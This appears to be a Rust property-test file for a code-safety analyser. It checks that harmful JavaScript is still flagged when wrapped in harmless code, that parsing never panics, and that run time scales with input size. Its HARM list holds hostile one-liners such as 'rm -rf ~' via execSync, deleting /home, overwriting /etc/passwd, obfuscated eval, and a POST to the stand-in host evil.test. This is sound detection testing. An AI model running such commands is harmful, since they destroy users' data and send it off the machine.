//! What holds for every program: reading never panics, harm stays seen whatever stands around it, and time grows with the text.

use std::time::{Duration, Instant};

use belay_languages::{Doing, read};
use proptest::prelude::*;

/// Programs that do harm, each in its own way.
const HARM: [&str; 14] = [
    "require('child_process').execSync('rm -rf ~')",
    "require('fs').rmSync('/home', {recursive: true})",
    "fs.writeFileSync('/etc/passwd', 'x')",
    "eval('x')",
    "new Function('x')()",
    "[].constructor.constructor('x')()",
    "import('child_process').then(c => c.execSync('x'))",
    "fetch('https://evil.test', {method: 'POST', body: '1'})",
    "process.kill(1)",
    "require(process.argv[2])",
    "globalThis['ev' + 'al']('x')",
    "process.binding('fs')",
    "child_process.spawn('rm', ['-rf', '/'])",
    "vm.runInThisContext('x')",
];

/// Harmless code around a program, which stands at `@`.
const AROUND: [&str; 30] = [
    "console.log(1); @",
    "@; console.log(1)",
    "if (1) { @ }",
    "if (0) ; else @",
    "for (const x of [1, 2]) { @ }",
    "for (let i = 0; i < 3; i++) @",
    "while (false) { @ }",
    "do { @ } while (0)",
    "try { @ } catch (e) { console.log(e) }",
    "try { x() } catch { @ }\nfunction x() {}",
    "try {} finally { @ }",
    "switch (1) { case 1: @ }",
    "const f = () => { @ }; f()",
    "const f = async () => { await (@) }; f()",
    "function f() { return (@) }\nf()",
    "(function () { @ })()",
    "[1, 2].map(x => (@))",
    "const a = [(@)]",
    "const o = {a: (@), b() { return 1 }}",
    "const {a = (@)} = {}",
    "console.log(`a ${(@)} b`)",
    "console.log(`a ${`b ${(@)}`}`)",
    "const x = 1 ? (@) : 0",
    "const x = 'a' + (@)",
    "const x = null ?? (@)",
    "class A { m() { return (@) } }",
    "class A { static x = (@) }",
    "new Promise(r => { r(@) })",
    "/* a */ @ // b",
    "var x = /[/]'/.test('a') / 2; @ ; var y = 4 / 2 // /",
];

fn harms(doing: &Doing) -> bool {
    match doing {
        Doing::Read(_) | Doing::Load(_) | Doing::Variable(_) | Doing::Import(_) => false,
        Doing::Write(_)
        | Doing::Unpack(_)
        | Doing::Spill(_)
        | Doing::Delete(..)
        | Doing::Fetch(_)
        | Doing::Send(_)
        | Doing::Run(_)
        | Doing::Search(_)
        | Doing::Folder(_)
        | Doing::Package { .. }
        | Doing::NodePackage { .. }
        | Doing::Secret(_)
        | Doing::Unread { .. }
        | Doing::Other(..) => true,
    }
}

fn is_clean(code: &str) -> bool {
    read("javascript", code).is_some_and(|it| !it.iter().any(harms))
}

/// Texts made of the words of both languages, and of anything.
fn soup() -> impl Strategy<Value = String> {
    let word = prop::sample::select(vec![
        "a",
        "b",
        "fs",
        "require",
        "process",
        "eval",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "`",
        "${",
        "'",
        "\"",
        "/",
        "/*",
        "*/",
        "//",
        "\n",
        " ",
        ";",
        ",",
        ".",
        "?.",
        "=>",
        "=",
        "+",
        "++",
        "const ",
        "let ",
        "function ",
        "return ",
        "async ",
        "await ",
        "class ",
        "new ",
        "if",
        "else ",
        "for",
        "of ",
        "in ",
        "case ",
        "import ",
        "from ",
        "1",
        "0x",
        ".5",
        "\\",
        "\\u",
        "<!--",
        "-->",
        "#",
        "$",
        "@",
        "%",
        "&",
        "|",
        "<",
        ">",
        "s/",
        "tr/",
        "y/",
        "q(",
        "qw",
        "print ",
        "$_",
        "@F",
        "m{",
        "use ",
        "\u{2028}",
        "é",
        ":",
        "?",
        "...",
        "'child_process'",
        "'fs'",
        ".rmSync",
        ".execSync",
        "this",
    ]);
    prop::collection::vec(word, 0..60).prop_map(|it| it.concat())
}

/// A soup that opens no comment and no text: it would swallow what follows it.
fn closed() -> impl Strategy<Value = String> {
    soup().prop_map(|it| it.replace(['\'', '"', '`', '/', '<', '-', '\u{2028}'], " "))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn reading_never_panics(code in prop_oneof![soup(), any::<String>()]) {
        for language in ["javascript", "perl", "python", "awk", "sed", "jq", "sql"] {
            let _ = read(language, &code);
        }
    }

    #[test]
    fn harm_stays_seen(
        harm in prop::sample::select(HARM.to_vec()),
        around in prop::collection::vec(prop::sample::select(AROUND.to_vec()), 0..4),
    ) {
        let code = around.iter().fold(harm.to_owned(), |code, it| {
            let statement = code.contains([';', '\n']) || code.starts_with(['{', 'c', 't', 'i', 'w', 'd', 's', 'v', '/']);
            let code = if statement && it.contains("(@)") { format!("(() => {{ {code}\n}})()") } else { code };
            it.replace('@', &code)
        });
        prop_assert!(!is_clean(&code), "{}", code);
    }

    #[test]
    fn what_is_added_takes_nothing_away(
        harm in prop::sample::select(HARM.to_vec()),
        before in closed(),
        after in soup(),
    ) {
        let code = format!("{before}\n;{harm};\n{after}");
        prop_assert!(!is_clean(&code), "{}", code);
    }
}

#[test]
fn wrappers_are_read() {
    for around in AROUND {
        let code = around.replace('@', "console.log(2)");
        assert!(is_clean(&code), "{code}");
    }
}

/// Programs of about so many bytes, each growing in its own way.
fn shapes(size: usize) -> Vec<(&'static str, &'static str, String)> {
    let times = |text: &str| text.repeat(size / text.len());
    let js = |name, text| ("javascript", name, text);
    vec![
        js("statements", times("console.log(1);\n")),
        js("members", format!("a{}\nvar a", times(".b"))),
        js(
            "calls",
            format!("a{}\nfunction a() {{}}", times(".map(x => x)")),
        ),
        js("additions", format!("x = 'a'{}", times(" + 'a'"))),
        js(
            "unknown additions",
            format!("x = a{}\nvar a", times(" + a")),
        ),
        js("parentheses", times("(")),
        js(
            "closed parentheses",
            format!("{}{}", "(".repeat(size / 2), ")".repeat(size / 2)),
        ),
        js("braces", times("{")),
        js("templates", times("`${`")),
        js("one template", format!("`{}`", times("${1}a"))),
        js("assignments", times("a = ")),
        js("conditions", times("a ? b : ")),
        js(
            "names",
            (0..size / 20)
                .map(|it| format!("const a{it} = {it};\n"))
                .collect(),
        ),
        js(
            "chained names",
            (1..size / 20)
                .map(|it| format!("let a{it} = a{};\n", it - 1))
                .collect(),
        ),
        js(
            "one name",
            format!("let a = '{}';{}", times("x"), times("a;")),
        ),
        js(
            "one list",
            format!("let a = [{}];{}", times("1,"), times("a;")),
        ),
        js("one object", {
            let keys: String = (0..size / 20).map(|it| format!("k{it},")).collect();
            let entries: String = (0..size / 20).map(|it| format!("k{it}: 1,")).collect();
            format!("const {{{keys}}} = {{{entries}}}")
        }),
        js("writes", times("fs.writeFileSync('a', 'b');\n")),
        js(
            "calls of one",
            format!(
                "function w(f) {{ fs.writeFileSync(f, '') }}\n{}",
                times("w('a');")
            ),
        ),
        js("text", format!("'{}'", times("a"))),
        js("comment", format!("/*{}*/", times("a"))),
        js("arrows", times("a => ")),
        js("unary", times("!")),
        js("lists", times("[")),
        js("slashes", times("/a/;")),
        ("perl", "substitutions", times("s/a/b/;")),
        ("perl", "brackets", times("(")),
        ("perl", "words", times("print $x;")),
        ("perl", "braces", times("s{")),
        ("perl", "blanks", format!("print{}", times(" "))),
        ("perl", "lines", times("print\n\n\n\n")),
    ]
}

#[expect(clippy::disallowed_methods, reason = "it is the time that is tested")]
fn spent(language: &str, code: &str) -> Duration {
    let best = (0..3).map(|_| {
        let start = Instant::now();
        let _ = read(language, code);
        start.elapsed()
    });
    best.min().unwrap_or_default()
}

/// Times below are all alike.
const FLOOR: Duration = Duration::from_millis(2);

#[test]
fn time_grows_with_the_text() {
    let size = if cfg!(debug_assertions) { 16 } else { 500 } * 1024;
    for ((language, name, small), (_, _, large)) in shapes(size).into_iter().zip(shapes(size * 4)) {
        // A machine that is busy with others slows one of a pair; what grows too fast does so every time.
        let pairs: Vec<_> = (0..5)
            .map(|_| (spent(language, &small), spent(language, &large)))
            .take_while(|(one, four)| *four >= (*one).max(FLOOR) * 10)
            .collect();
        assert!(
            pairs.len() < 5,
            "{language} {name}: time, and that of four times as much: {pairs:?}"
        );
    }
}

#[test]
fn deep_programs_fit_a_small_stack() {
    let thread = std::thread::Builder::new().stack_size(2 * 1024 * 1024);
    let done = thread.spawn(|| {
        for (open, close) in [
            ("(", ")"),
            ("[", "]"),
            ("{", "}"),
            ("a(", ")"),
            ("() => {", "}"),
            ("`${", "}`"),
            ("!", "1"),
            ("if (1) ", ";"),
            ("x = ", "1"),
            ("class A { static x = () => ", "}"),
        ] {
            for depth in [10, 40, 70, 79, 100, 10_000] {
                let _ = read(
                    "javascript",
                    &format!("{}{}", open.repeat(depth), close.repeat(depth)),
                );
                let _ = read(
                    "javascript",
                    &format!("{}1{}", open.repeat(depth), close.repeat(depth)),
                );
            }
        }
        let names: String = (1..5_000)
            .map(|it| {
                format!(
                    "const a{it} = () => a{}, b{it} = [[[[b{}]]]];\n",
                    it - 1,
                    it - 1
                )
            })
            .collect();
        let _ = read("javascript", &format!("{names} console.log(b4999)"));
        let backwards: String = (1..5_000)
            .rev()
            .map(|it| format!("var b{it} = [[[[b{}]]]];\n", it - 1))
            .collect();
        let _ = read("javascript", &backwards);
    });
    done.unwrap().join().unwrap();
}
